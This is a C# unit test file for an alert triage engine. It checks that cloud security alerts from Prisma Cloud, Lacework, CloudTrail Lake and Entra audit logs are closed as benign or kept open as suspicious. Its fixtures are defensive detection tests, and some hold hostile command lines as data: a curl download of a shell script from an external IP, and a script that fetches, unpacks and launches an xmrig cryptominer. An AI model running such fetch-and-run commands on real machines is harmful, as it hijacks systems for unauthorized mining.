using Verdict.Analysis;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Prisma Cloud alerts, Lacework / FortiCNAPP alerts, CloudTrail Lake query rows and Entra audit rows read by their
/// documented fields: each benign reason closes its case, and the attack riding the same shape stays open.
/// </summary>
public sealed class CloudProductTests
{
    private const string Foreign = "102.89.34.117";
    private const string InHours = "2026-11-18T14:00:00Z"; // Wednesday, business hours in the fixtures' context
    private const string Night = "2026-11-22T03:00:00Z";

    private static Assessment Assess(string json) =>
        FamilyFixtures.Triage([new FamilyFixture("p0", json.ReplaceLineEndings(" "), true, "")], FamilyFixtures.Context())[0].Assessment!;

    private static string Prisma(string policy, string type, string data, string resource = "bucket-1", string region = "us-east-1") => $$$"""
        {"alertId": "P-1", "alertRuleName": "All clouds", "alertStatus": "open", "reason": "NEW_ALERT", "alertTs": 1795000000000,
         "policyName": "{{{policy}}}", "policyId": "p-1", "policyType": "{{{type}}}", "severity": "medium", "policyDescription": "{{{policy}}}.",
         "cloudType": "aws", "accountName": "prod-account", "accountId": "123456789012", "resourceRegion": "{{{region}}}",
         "resourceName": "{{{resource}}}", "resourceCloudService": "Amazon EC2", "resource": {"data": {{{data}}}}}
        """;

    private static string Lacework(string name, string description, string entities, string time = InHours) => $$$"""
        {"alertId": 1, "alertType": "Type", "alertName": "{{{name}}}", "severity": "Low", "status": "Open", "startTime": "{{{time}}}",
         "alertInfo": {"subject": "{{{name}}}", "description": "{{{description}}}"}, "entityMap": {{{entities}}}}
        """;

    [Fact]
    public void A_prisma_configuration_policy_closes_while_an_audit_event_policy_from_a_foreign_address_stays_open()
    {
        var config = Assess(Prisma("AWS S3 bucket is publicly readable", "config", """{"tags": {"owner": "data"}}"""));
        Assert.Contains(config.Evidence, e => e.Key == "posture_finding");
        Assert.DoesNotContain(config.Evidence, e => e.Description.Contains("prod-account", StringComparison.Ordinal)); // the account is not a user
        Assert.Equal(Classification.Benign, config.Classification);

        var stopped = Assess(Prisma("AWS CloudTrail logging disabled", "audit_event",
            $$$"""{"eventName": "StopLogging", "sourceIPAddress": "{{{Foreign}}}", "userIdentity": {"type": "IAMUser", "userName": "ci-user", "arn": "arn:aws:iam::123456789012:user/ci-user"}}"""));
        Assert.Contains(stopped.Evidence, e => e.Key == "logging_disabled");
        Assert.NotEqual(Classification.Benign, stopped.Classification);
    }

    [Fact]
    public void A_scan_from_a_workload_tagged_as_the_vulnerability_scanner_closes_but_one_from_any_other_workload_does_not()
    {
        var qualys = Assess(Prisma("Port scan activity (internal)", "network", """{"srcIp": "52.14.80.6", "tags": {"role": "vulnerability-scanner"}}""", "qualys-scanner-01"));
        Assert.Contains(qualys.Evidence, e => e.Key == "scanner_workload");
        Assert.Equal(Classification.Benign, qualys.Classification);

        var other = Assess(Prisma("Port scan activity (internal)", "network", """{"srcIp": "52.14.80.7", "tags": {"role": "web"}}""", "web-frontend-03", region: ""));
        Assert.DoesNotContain(other.Evidence, e => e.Key == "scanner_workload");
        Assert.NotEqual(Classification.Benign, other.Classification);
    }

    [Fact]
    public void Instance_credentials_used_from_an_outside_address_stay_open_and_from_inside_the_vpc_are_not_flagged()
    {
        static string Row(string ip) => $$$"""
            {"detection_name": "secrets-read", "eventTime": "2026-11-18 14:00:00.000", "eventID": "e-1", "eventName": "GetSecretValue",
             "eventSource": "secretsmanager.amazonaws.com", "awsRegion": "us-east-1", "sourceIPAddress": "{{{ip}}}", "userAgent": "aws-cli/2.18.4",
             "principal_arn": "arn:aws:sts::123456789012:assumed-role/web-ec2-role/i-07d2f3a9c1b84e552", "principal_type": "AssumedRole",
             "errorCode": null, "requestParameters": "{\"secretId\":\"prod/db\"}", "recipientAccountId": "123456789012"}
            """;
        var stolen = Assess(Row("45.86.201.12"));
        Assert.Contains(stolen.Evidence, e => e.Key == "instance_credentials_elsewhere");
        Assert.NotEqual(Classification.Benign, stolen.Classification);

        var own = Assess(Row("10.50.4.12"));
        Assert.DoesNotContain(own.Evidence, e => e.Key == "instance_credentials_elsewhere");
    }

    [Fact]
    public void Lacework_entities_are_read_and_a_gitops_controller_binding_closes_unless_it_grants_cluster_admin()
    {
        var argo = Assess(Lacework("New ClusterRoleBinding Created", "argocd created ClusterRoleBinding kube-state-metrics.",
            """{"K8sUser": [{"USERNAME": "system:serviceaccount:argocd:argocd-application-controller"}], "K8sObject": [{"KIND": "ClusterRoleBinding", "NAME": "kube-state-metrics"}]}"""));
        Assert.Contains(argo.Evidence, e => e.Key == "gitops_controller");
        Assert.Equal(Classification.Benign, argo.Classification);

        var admin = Assess(Lacework("New ClusterRoleBinding Created", "argocd bound cluster-admin to default:default.",
            """{"K8sUser": [{"USERNAME": "system:serviceaccount:argocd:argocd-application-controller"}], "K8sObject": [{"KIND": "ClusterRoleBinding", "NAME": "cluster-admin"}]}"""));
        Assert.DoesNotContain(admin.Evidence, e => e.Key == "gitops_controller");
        Assert.NotEqual(Classification.Benign, admin.Classification);
    }

    [Fact]
    public void A_package_manager_reaching_its_mirror_closes_but_a_download_from_an_unknown_server_does_not()
    {
        var apt = Assess(Lacework("New External Server IP", "Container apt-get connected to 151.101.2.132:80 (deb.debian.org) for the first time.",
            """{"Process": [{"CMDLINE": "/usr/lib/apt/methods/http"}], "IpAddress": [{"IP_ADDRESS": "151.101.2.132", "PORT_LIST": [80]}]}"""));
        Assert.Contains(apt.Evidence, e => e.Key == "package_mirror");
        Assert.Equal(Classification.Benign, apt.Classification);

        var curl = Assess(Lacework("New External Server IP", "Container curl connected to 5.42.92.16:80 for the first time.",
            """{"Process": [{"CMDLINE": "curl -s http://5.42.92.16/x.sh"}], "IpAddress": [{"IP_ADDRESS": "5.42.92.16", "PORT_LIST": [80]}]}"""));
        Assert.DoesNotContain(curl.Evidence, e => e.Key == "package_mirror");
        Assert.NotEqual(Classification.Benign, curl.Classification);
    }

    [Fact]
    public void New_clients_on_a_web_port_close_but_new_clients_on_ssh_do_not()
    {
        var web = Assess(Lacework("New External Client IP", "New client addresses connected to port 443.",
            """{"Machine": [{"HOSTNAME": "web-1"}], "IpAddress": [{"IP_ADDRESS": "84.241.196.77", "PORT_LIST": [443]}]}"""));
        Assert.Contains(web.Evidence, e => e.Key == "web_visitors");
        Assert.Equal(Classification.Benign, web.Classification);

        var ssh = Assess(Lacework("New External Client IP", "New client addresses connected to port 22.",
            """{"Machine": [{"HOSTNAME": "web-1"}], "IpAddress": [{"IP_ADDRESS": "84.241.196.77", "PORT_LIST": [22]}]}"""));
        Assert.DoesNotContain(ssh.Evidence, e => e.Key == "web_visitors");
        Assert.NotEqual(Classification.Benign, ssh.Classification);
    }

    [Fact]
    public void A_security_audit_tool_under_an_audit_role_closes_but_the_same_tool_under_another_role_does_not()
    {
        static string Denied(string arn, string ip = Foreign) => Lacework("Unauthorized API Calls", "AccessDenied on 214 calls in 10 minutes.",
            $$$"""{"CT_User": [{"USERNAME": "{{{arn}}}"}], "SourceIpAddress": [{"IP_ADDRESS": "{{{ip}}}"}], "UserAgent": [{"USER_AGENT": "Boto3/1.34.0 prowler/4.5.0"}]}""");
        var audit = Assess(Denied("arn:aws:sts::123456789012:assumed-role/auditor-readonly/prowler"));
        Assert.Contains(audit.Evidence, e => e.Key == "security_audit_tool");
        Assert.Equal(Classification.Benign, audit.Classification);

        var other = Assess(Denied("arn:aws:sts::123456789012:assumed-role/app-deployer/session"));
        Assert.DoesNotContain(other.Evidence, e => e.Key == "security_audit_tool");
        Assert.NotEqual(Classification.Benign, other.Classification);
    }

    private static string Sentinel(string operation, string who, string ip, string newValue, string time = InHours, string target = "student.one@globex.com",
        string service = "Core Directory", string displayName = "X") => $$$"""
        {"TenantId": "t", "TimeGenerated": "{{{time}}}", "OperationName": "{{{operation}}}", "ActivityDisplayName": "{{{operation}}}", "Category": "UserManagement",
         "Result": "success", "LoggedByService": "{{{service}}}", "Id": "Directory_1", "Type": "AuditLogs",
         "InitiatedBy": {"user": {"userPrincipalName": "{{{who}}}@globex.com", "ipAddress": "{{{ip}}}"}},
         "TargetResources": [{"displayName": "T", "type": "User", "userPrincipalName": "{{{target}}}",
           "modifiedProperties": [{"displayName": "{{{displayName}}}", "oldValue": "", "newValue": {{{System.Text.Json.JsonSerializer.Serialize(newValue)}}}}]}]}
        """;

    [Fact]
    public void A_pim_activation_closes_while_a_role_assigned_outside_pim_at_night_stays_open()
    {
        var pim = Assess(Sentinel("Add member to role completed (PIM activation)", "cloud.admin", "10.20.1.5", "\"INC1 mailbox permissions\"", service: "PIM", displayName: "Justification"));
        Assert.Contains(pim.Evidence, e => e.Key == "pim_activation" && e.Description.Contains("INC1", StringComparison.Ordinal));
        Assert.Equal(Classification.Benign, pim.Classification);

        var direct = Assess(Sentinel("Add member to role", "cloud.admin", Foreign, "\"Global Administrator\"", Night, "guest_gmail.com#EXT#@globex.onmicrosoft.com"));
        Assert.DoesNotContain(direct.Evidence, e => e.Key == "pim_activation");
        Assert.NotEqual(Classification.Benign, direct.Classification);
    }

    [Fact]
    public void Consent_to_profile_scopes_closes_while_consent_to_mail_scopes_stays_open()
    {
        var basic = Assess(Sentinel("Consent to application", "staff.one", "10.20.1.5", "\"Scope: openid profile email User.Read offline_access\""));
        Assert.Contains(basic.Evidence, e => e.Key == "basic_consent");
        Assert.Equal(Classification.Benign, basic.Classification);

        var mail = Assess(Sentinel("Consent to application", "staff.one", Foreign, "\"Scope: openid Mail.ReadWrite Mail.Send offline_access\"", Night));
        Assert.DoesNotContain(mail.Evidence, e => e.Key == "basic_consent");
        Assert.NotEqual(Classification.Benign, mail.Classification);
    }

    [Fact]
    public void A_help_desk_password_reset_of_a_standard_account_closes_but_a_reset_of_an_administrator_does_not()
    {
        var student = Assess(Sentinel("Reset user password", "helpdesk.one", Foreign, ""));
        Assert.Contains(student.Evidence, e => e.Key == "routine_user_admin");
        Assert.Equal(Classification.Benign, student.Classification);

        var admin = Assess(Sentinel("Reset user password", "helpdesk.one", Foreign, "", target: "cloud.admin@globex.com"));
        Assert.DoesNotContain(admin.Evidence, e => e.Key == "routine_user_admin");
        Assert.NotEqual(Classification.Benign, admin.Classification);

        var night = Assess(Sentinel("Reset user password", "helpdesk.one", Foreign, "", Night));
        Assert.DoesNotContain(night.Evidence, e => e.Key == "routine_user_admin");
    }

    [Fact]
    public void Federating_a_domain_with_a_new_token_issuer_stays_open_even_in_business_hours()
    {
        var federated = Assess(Sentinel("Set domain authentication", "cloud.admin", "10.20.1.5", "\"Federated\"", displayName: "LiveType"));
        Assert.Contains(federated.Evidence, e => e.Key == "federation_changed");
        Assert.NotEqual(Classification.Benign, federated.Classification);
    }

    [Fact]
    public void A_fleet_of_gpu_instances_from_one_call_is_flagged_but_two_memory_instances_are_not()
    {
        static string Launch(string type, int count) => $$$"""
            {"detection_name": "ec2-instances-launched", "eventTime": "2026-11-18 14:00:00.000", "eventID": "e-2", "eventName": "RunInstances",
             "eventSource": "ec2.amazonaws.com", "awsRegion": "us-east-1", "sourceIPAddress": "10.20.1.5", "userAgent": "Boto3/1.35.44",
             "principal_arn": "arn:aws:iam::123456789012:user/researcher-cli", "principal_type": "IAMUser", "errorCode": null,
             "requestParameters": "{\"instanceType\":\"{{{type}}}\",\"minCount\":{{{count}}}}", "recipientAccountId": "123456789012"}
            """;
        var fleet = Assess(Launch("p3.16xlarge", 40));
        Assert.Contains(fleet.Evidence, e => e.Key == "gpu_fleet_launched");
        Assert.NotEqual(Classification.Benign, fleet.Classification);

        var analysis = Assess(Launch("r6i.8xlarge", 2));
        Assert.DoesNotContain(analysis.Evidence, e => e.Key == "gpu_fleet_launched");
    }

    [Fact]
    public void A_run_command_script_in_a_prisma_alert_is_read_as_a_command_line()
    {
        var miner = Assess(Prisma("Azure Virtual Machine Run Command executed", "audit_event",
            """
            {"operationName": "Microsoft.Compute/virtualMachines/runCommand/action", "caller": "ops.one@globex.com", "callerIpAddress": "10.20.1.5",
             "script": "curl -s http://5.42.92.16/x/xmrig.tar.gz | tar xz -C /tmp && nohup /tmp/xmrig -o 5.42.92.16:443 --cuda &"}
            """, "vm-gpu-1"));
        Assert.Contains(miner.Evidence, e => e.Supports == Leaning.Malicious && e.Key != "detector_severity");
        Assert.NotEqual(Classification.Benign, miner.Classification);
    }
}
